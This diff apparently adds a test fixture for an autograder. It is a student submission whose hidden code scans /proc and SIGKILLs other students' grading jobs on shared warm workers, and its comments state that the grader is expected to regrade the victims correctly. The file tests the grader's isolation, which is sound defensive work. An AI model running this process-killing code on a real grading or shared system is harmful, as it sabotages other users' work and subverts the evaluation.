@@ -1,0 +1,37 @@
+# attack: once another student's job is running, scans /proc and SIGKILLs every process that runs as its user with its own command line (the other jobs of the grader's warm workers), then passes itself
+# outcome: the killed students are graded again, alone, and pass; their killed result is never cached for a student with the same files, nor kept for a rerun
+import os
+import signal
+import time
+
+deadline = time.monotonic() + 60
+while not any(n.startswith("ready-") for n in os.listdir(SIGNALS)) and time.monotonic() < deadline:
+    time.sleep(0.01)
+with open("/proc/self/cmdline", "rb") as f:  # python -I -c <bootstrap> <fd> <package> ...
+    mine = f.read().split(b"\0")
+mine = mine[:4] + mine[5:6]  # every warm worker's, whatever its socket's number
+open(os.path.join(SIGNALS, "killed"), "w").close()  # before the kill: a job run after it sees it
+killed = []
+for entry in os.listdir("/proc"):
+    if not entry.isdigit() or int(entry) in (os.getpid(), os.getppid()):
+        continue
+    try:
+        with open(f"/proc/{entry}/cmdline", "rb") as f:
+            theirs = f.read().split(b"\0")
+        if theirs[:4] + theirs[5:6] != mine or os.stat(f"/proc/{entry}").st_uid != os.getuid():
+            continue
+        os.kill(int(entry), signal.SIGKILL)
+        killed.append(entry)
+    except OSError:
+        pass
+with open(os.path.join(SIGNALS, "victims"), "w") as f:
+    f.write(" ".join(killed))
+
+
+class MulLayer:
+    def forward(self, x, y):
+        self.x, self.y = x, y
+        return x * y
+
+    def backward(self, dout):
+        return dout * self.y, dout * self.x
